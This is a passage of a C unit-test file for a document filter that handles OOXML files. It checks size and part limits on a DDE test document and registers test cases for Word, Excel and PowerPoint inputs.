	mk_wopts o = { .max_output = r->max_output, .ooxml_max_parts = r->parts,
	               .ooxml_max_part_size = r->part_size };
	char *path = mkt_shared_path("corpora/oletools/msodde/dde-test.docx");
	GBytes *in = mkt_read(path), *out = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	char *type = NULL;
	int rc = mk_wfilter_ooxml.run(in, &o, &out, &type, notes, &err);

	ck_assert_msg(rc == r->rc, "row %d: rc %d (%s)", _i, rc, err.msg);
	if (r->rc != 0) {
		ck_assert_ptr_null(out);
		ck_assert_msg(strstr(err.msg, r->msg), "row %d: %s", _i, err.msg);
	}
	if (out)
		g_bytes_unref(out);
	g_free(type);
	g_bytes_unref(in);
	g_free(path);
	g_ptr_array_unref(notes);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("ooxml");
	TCase *tc = tcase_create("ooxml");
	tcase_add_loop_test(tc, test_rows, 0, G_N_ELEMENTS(rows));
	tcase_add_loop_test(tc, test_word_matrix, 0, G_N_ELEMENTS(rows));
	tcase_add_loop_test(tc, test_xlsx, 0, G_N_ELEMENTS(xrows));
	tcase_add_loop_test(tc, test_ppt_matrix, 0, G_N_ELEMENTS(prows));
	tcase_add_loop_test(tc, test_not_ooxml, 0, 2);
	tcase_add_test(tc, test_bad_name);
	tcase_add_loop_test(tc, test_samples, 0, G_N_ELEMENTS(samples));
	tcase_add_loop_test(tc, test_limits, 0, G_N_ELEMENTS(lrows));
	suite_add_tcase(s, tc);
	return mkt_run(s);
}
